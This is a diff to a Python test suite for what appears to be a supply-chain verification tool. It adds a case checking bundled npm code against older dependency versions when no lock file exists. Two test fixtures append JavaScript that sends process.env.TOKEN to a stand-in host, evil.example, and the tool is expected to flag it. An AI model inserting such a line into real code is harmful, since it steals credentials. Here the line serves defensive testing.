@@ -228,17 +228,18 @@ BUNDLE = LEFT.replace("exports.", "var l={};l.", 1).replace("exports.", "l.") + 
 
 
 def bundled_case(plumb, pinned, bundle=BUNDLE, committed=False, network=True):
-    """A package with dist/kit.js, which holds "left"; the source's lock file pins that in version `pinned`."""
+    """A package with dist/kit.js, which holds "left"; the source's lock file pins that in version `pinned`, or there is none."""
     with Registry(plumb) as r:
         manifest = {**MANIFEST, "main": "dist/kit.js", "devDependencies": {"left": "^1.0.0"}}
         text = json.dumps(manifest, indent=2)
         for version, data in (("1.0.0", LEFT), ("1.1.0", "exports.other = 1\n")):
             r.publish("left", version, {"package.json": json.dumps({"name": "left", "version": version}), "index.js": data})
+        r.files["/left"] = json.dumps({"name": "left", "versions": {v: {} for v in ("1.1.0-rc.1", "1.0.0", "1.1.0", "0.9.0")}}).encode()
         r.publish("kit", "1.0.0", {"package.json": text, "dist/kit.js": bundle}, REPOSITORY, signed=True)
         r.offer_keys()
         lock = {"lockfileVersion": 3, "packages": {"node_modules/left": {"version": pinned}}}
         number = len(list(plumb.scratch.iterdir()))
-        files = {"package.json": text, "index.js": OWN, "package-lock.json": json.dumps(lock)}
+        files = {"package.json": text, "index.js": OWN, **({"package-lock.json": json.dumps(lock)} if pinned else {})}
         folder = mirror(plumb, {**files, **({"dist/kit.js": bundle} if committed else {})}, "v1.0.0", f"m{number}/own+kit").parent
         cache = plumb.path(f"c{number}/x").parent
         return plumb.check("pkg:npm/kit@1.0.0", "--git-mirror", folder / f"m{number}", network=True, env=r.env, cache=cache)
@@ -253,6 +254,15 @@ def a_bundled_dependency_is_a_source_at_the_version_of_the_lock_file(plumb):
     assert bundled_case(plumb, "3.0.0").code != 0, "a version that is not there explained it"
     added = BUNDLE + 'require("https").get("https://evil.example/" + process.env.TOKEN)\n'
     assert bundled_case(plumb, "1.0.0", added).errors("dist/kit.js")
+
+
+@case
+def without_a_lock_file_older_versions_of_a_dependency_count_too(plumb):
+    report = bundled_case(plumb, None)
+    assert report.code == 0, plumb.summary(report)
+    assert [s["name"] for s in report.json["sources"][1:]] == ["left 1.1.0", "left 1.0.0"], report.json["sources"]
+    added = BUNDLE + 'require("https").get("https://evil.example/" + process.env.TOKEN)\n'
+    assert bundled_case(plumb, None, added).errors("dist/kit.js")
 
 
 @case
